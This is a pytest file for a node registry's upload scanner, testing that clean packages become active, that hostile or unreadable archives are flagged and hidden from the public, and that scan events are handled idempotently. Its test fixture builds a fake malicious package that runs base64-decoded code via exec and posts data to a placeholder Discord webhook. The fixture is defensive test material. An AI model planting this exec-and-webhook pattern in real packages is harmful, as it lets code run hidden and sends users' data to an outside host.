"""The scanner function end to end: a CloudEvent through functions-framework, the verdict on the version."""

from __future__ import annotations

import base64
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import select, update

from shared.db.models import ComfyNode, NodeVersion
from tests.conftest import ROOT
from tests.support import RegistryClient, clean_pack, version_row, zip_bytes

PAYLOAD = base64.b64encode(b"print('hi')").decode()
MALICIOUS = zip_bytes(
    {
        "pyproject.toml": '[project]\nname = "evil"\nversion = "1.0.0"\n',
        "__init__.py": (
            "import base64, urllib.request\n"
            f"exec(base64.b64decode('{PAYLOAD}'))\n"
            "urllib.request.urlopen('https://discord.com/api/webhooks/000/xxx', data=b'x')\n"
            "NODE_CLASS_MAPPINGS = {}\n"
        ),
    }
)


@pytest.fixture
def scanner_app() -> Any:
    import functions_framework

    return functions_framework.create_app("scanner", str(ROOT / "functions/scanner/main.py"), "cloudevent")


def finalize(app: Any, bucket: str, name: str, event_id: str = "evt-1") -> int:
    headers = {
        "ce-id": event_id,
        "ce-specversion": "1.0",
        "ce-type": "google.cloud.storage.object.v1.finalized",
        "ce-source": f"//storage.googleapis.com/projects/_/buckets/{bucket}",
        "ce-subject": f"objects/{name}",
    }
    body = json.dumps({"bucket": bucket, "name": name, "size": "1"})
    return int(app.test_client().post("/", headers=headers, data=body, content_type="application/json").status_code)


def stored_without_event(api: RegistryClient, path: str, data: bytes) -> None:
    api.container.blobs._hooks.clear()  # type: ignore[attr-defined]  # as if the upload event were lost
    api.container.blobs.write(path, [data])  # type: ignore[attr-defined]


def test_clean_upload_becomes_active_with_hash_size_and_nodes(api: RegistryClient) -> None:
    token = api.owner_with_token()
    api.publish("alice-pub", "my-node", "1.0.0", token)
    row = version_row(api, "my-node", "1.0.0")
    assert (row.status, row.status_reason) == ("active", "Passed automated checks")
    assert row.archive_sha256 and len(row.archive_sha256) == 64 and row.archive_size
    assert row.comfy_node_extract_status == "success" and row.scan_findings == []
    with api.container.sessions() as s:
        nodes = s.scalars(select(ComfyNode).where(ComfyNode.node_version_id == row.id)).all()
    assert [(n.name, n.category, n.function) for n in nodes] == [("Hello", "example", "run")]
    body = api.get("/nodes/my-node/install").get_json()
    assert body["status"] == "NodeVersionStatusActive" and body["archive_sha256"] == row.archive_sha256


def test_malicious_upload_is_flagged_and_refused(api: RegistryClient) -> None:
    token = api.owner_with_token()
    data = api.publish("alice-pub", "evil", "1.0.0", token, upload=False)
    assert api.upload(data["signedUrl"], MALICIOUS).status_code == 200
    row = version_row(api, "evil", "1.0.0")
    assert row.status == "flagged" and row.status_reason.startswith("Flagged by automated checks")
    assert row.scan_findings and {f["severity"] for f in row.scan_findings} & {"high", "critical"}
    r = api.get("/nodes/evil/install", query={"version": "1.0.0"})
    assert r.status_code == 403
    assert api.get("/nodes/evil/install").status_code == 404
    assert "latest_version" not in api.get("/nodes/evil").get_json()


def test_event_through_the_entry_point_is_idempotent(api: RegistryClient, scanner_app: Any) -> None:
    token = api.owner_with_token()
    api.publish("alice-pub", "my-node", "1.0.0", token, upload=False)
    path = version_row(api, "my-node", "1.0.0").storage_path
    stored_without_event(api, path, clean_pack("my-node", "1.0.0"))
    assert version_row(api, "my-node", "1.0.0").status == "pending"
    bucket = api.container.settings.uploads_bucket
    assert finalize(scanner_app, bucket, path) == 200
    first = version_row(api, "my-node", "1.0.0")
    assert first.status == "active"
    assert finalize(scanner_app, bucket, path) == 200  # the same event again
    assert finalize(scanner_app, bucket, path, event_id="evt-2") == 200  # another delivery
    again = version_row(api, "my-node", "1.0.0")
    assert (again.status, again.scanned_at) == ("active", first.scanned_at)
    # Objects the scanner does not own, and versions that do not exist, change nothing.
    assert finalize(scanner_app, "another-bucket", path, event_id="evt-3") == 200
    assert finalize(scanner_app, bucket, "ghost/none/1.0.0/a1/node.zip", event_id="evt-4") == 200


def test_missing_archive_marks_the_version_deleted(api: RegistryClient, scanner_app: Any) -> None:
    token = api.owner_with_token()
    api.publish("alice-pub", "my-node", "1.0.0", token, upload=False)
    bucket = api.container.settings.uploads_bucket
    assert finalize(scanner_app, bucket, version_row(api, "my-node", "1.0.0").storage_path) == 200
    row = version_row(api, "my-node", "1.0.0")
    assert (row.status, row.status_reason) == ("deleted", "Node zip file doesn't exist")


def test_hostile_archive_is_flagged_with_the_reason(api: RegistryClient) -> None:
    token = api.owner_with_token()
    data = api.publish("alice-pub", "junk", "1.0.0", token, upload=False)
    assert api.upload(data["signedUrl"], b"this is not a zip file").status_code == 200
    row = version_row(api, "junk", "1.0.0")
    assert row.status == "flagged" and "unreadable" in row.status_reason


def test_sweep_scans_versions_whose_event_was_lost(api: RegistryClient) -> None:
    import functions_framework

    token = api.owner_with_token()
    api.publish("alice-pub", "my-node", "1.0.0", token, upload=False)
    stored_without_event(api, version_row(api, "my-node", "1.0.0").storage_path, clean_pack("my-node", "1.0.0"))
    sweep = functions_framework.create_app("scanner_sweep", str(ROOT / "functions/scanner/main.py"), "http")
    assert sweep.test_client().post("/").get_json() == {"counts": {}}  # too recent to be called lost
    with api.container.sessions() as s:
        s.execute(update(NodeVersion).values(created_at=datetime.now(UTC) - timedelta(hours=2)))
        s.commit()
    assert sweep.test_client().post("/").get_json() == {"counts": {"scanned": 1}}
    assert version_row(api, "my-node", "1.0.0").status == "active"
    assert sweep.test_client().post("/?all=true").get_json() == {"counts": {"scanned": 1}}  # rescan after rules


def test_findings_are_shown_to_the_owner_and_admins_only(api: RegistryClient) -> None:
    token = api.owner_with_token()
    data = api.publish("alice-pub", "evil", "1.0.0", token, upload=False)
    api.upload(data["signedUrl"], MALICIOUS)
    url = f"/publishers/alice-pub/nodes/evil/versions/{data['node_version']['id']}/scan"
    r = api.get(url, as_="alice")
    assert r.status_code == 200
    body = r.get_json()
    assert body["status"] == "NodeVersionStatusFlagged" and body["findings"]
    assert {"rule", "severity", "file"} <= set(body["findings"][0])
    assert api.get(url, as_="root", admin=True).status_code == 200
    assert api.get(url, as_="bob").status_code == 403
    assert api.get(url).status_code == 401
    assert api.get(url.replace(data["node_version"]["id"], "not-a-uuid"), as_="alice").status_code == 400
    # The public never sees the findings.
    public = api.get("/nodes/evil/versions/1.0.0").get_json()
    assert "findings" not in public and "scan_findings" not in public


class BrokenStream:
    """A store connection that drops after the first chunk."""

    def __init__(self, data: bytes) -> None:
        self.data, self.sent = data, False

    def read(self, n: int = -1) -> bytes:
        if self.sent:
            raise ConnectionError("connection reset by the store")
        self.sent = True
        return self.data[:10]

    def __enter__(self) -> BrokenStream:
        return self

    def __exit__(self, *exc: object) -> None:
        return None


def test_store_failure_mid_read_is_retried_not_judged(api: RegistryClient, scanner_app: Any) -> None:
    token = api.owner_with_token()
    api.publish("alice-pub", "my-node", "1.0.0", token, upload=False)
    path = version_row(api, "my-node", "1.0.0").storage_path
    archive = clean_pack("my-node", "1.0.0")
    stored_without_event(api, path, archive)
    blobs = api.container.blobs
    real_open = blobs.open_read
    blobs.open_read = lambda p: BrokenStream(archive)  # type: ignore[method-assign,assignment,return-value]
    bucket = api.container.settings.uploads_bucket
    assert finalize(scanner_app, bucket, path, event_id="evt-broken") == 500  # Eventarc will deliver it again
    assert version_row(api, "my-node", "1.0.0").status == "pending"
    blobs.open_read = real_open  # type: ignore[method-assign]
    assert finalize(scanner_app, bucket, path, event_id="evt-broken") == 200
    assert version_row(api, "my-node", "1.0.0").status == "active"
